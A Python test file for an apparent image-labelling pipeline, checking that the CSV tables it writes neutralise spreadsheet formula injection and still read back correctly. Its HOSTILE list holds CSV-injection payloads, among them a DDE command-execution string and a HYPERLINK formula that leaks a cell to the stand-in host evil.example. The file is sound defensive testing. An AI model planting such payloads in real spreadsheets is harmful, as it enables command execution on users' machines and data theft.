"""No cell that imagegate writes into a table is run by a spreadsheet, and imagegate reads its own tables back."""

import ast
import csv
import io
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
import yaml

from components.ingest import exclusion
from components.ingest.settings import Exclusion
from pipeline import config
from pipeline.predict import label_table
from pipeline.runs import data

ROOT = Path(__file__).parents[2]
# As OWASP lists them (CSV injection): formulas, a call of a program, a link that carries a cell away, and wide forms.
HOSTILE = (
    "=1+1",
    "=cmd|' ⁄C calc'!A0",
    '=HYPERLINK("http:⁄⁄evil.example?x="&A1,"cat")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def cells(text: str) -> list[str]:
    """All cells of a table, as a spreadsheet that splits at commas reads them."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_these_are_all_modules_that_write_tables() -> None:
    """A further one belongs into the tests below; `shapes` writes numbers and names of its own."""
    found = {
        path.relative_to(ROOT).as_posix()
        for package in ("components", "pipeline")
        for path in (ROOT / package).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute)
        if node.attr in ("to_csv", "to_excel", "write_csv", "savetxt")
        or (node.attr in ("writer", "DictWriter") and isinstance(node.value, ast.Name) and node.value.id == "csv")
    }
    assert found == {"components/ingest/exclusion.py", "pipeline/init/shapes.py", "pipeline/predict/label_table.py"}


@pytest.mark.parametrize("text", HOSTILE)
def test_a_finding_of_a_hostile_name_is_no_formula_and_names_the_file_when_it_is_read(text: str) -> None:
    kept = Exclusion(path=text, reason=text, kind=text, other=text, decision="keep")
    table = exclusion.write([(text, text, "dark", 1.0, text)], [kept])
    assert [cell for cell in cells(table) if cell.startswith(STARTS)] == []
    new, old = exclusion.parse(table.encode(), "issues.csv")
    for row in (new, old):
        assert exclusion.Paths([text, "other.png"]).matches(row.path) == [text]
        assert row.other == text
        assert row.reason == f"reason: {text}".strip()


def test_a_table_of_images_to_label_holds_no_formula_and_finds_its_images_again(
    tmp_path: Path, write_files: Callable[[Path, Mapping[str, bytes]], Path]
) -> None:
    names = [f"{text}.png" for text in HOSTILE]
    write_files(tmp_path, {f"pool/{name}": name.encode() for name in names})
    told = {"name": "t", "task": "single_label", "data": {"root": "data", "unlabelled": "pool"}}
    (tmp_path / "t.yaml").write_text(yaml.safe_dump(told | {"push": {"destination": "models"}}))
    settings = config.load(str(tmp_path / "t.yaml"))
    form = label_table.form(settings, str(tmp_path / "pool"), str(tmp_path / "next.csv"))
    table = form.table((name, text, 0.5) for name, text in zip(names, HOSTILE, strict=True))
    assert [cell for cell in cells(table) if cell.startswith(STARTS)] == []

    # Somebody fills in the labels, moves the table to the images, and writes what the command says.
    header, *rows = csv.reader(io.StringIO(table, newline=""))
    with (tmp_path / "pool" / "next.csv").open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([header, *([name, "cat", *rest] for name, _, *rest in rows)])
    again = config.load(str(tmp_path / "t.yaml"), ["data={root: pool, layout: manifest, manifest: next.csv}"])
    dataset, _ = data.read_dataset(again)
    assert sorted(record.path for record in dataset.records) == sorted(names)
    assert {record.labels for record in dataset.records} == {("cat",)}
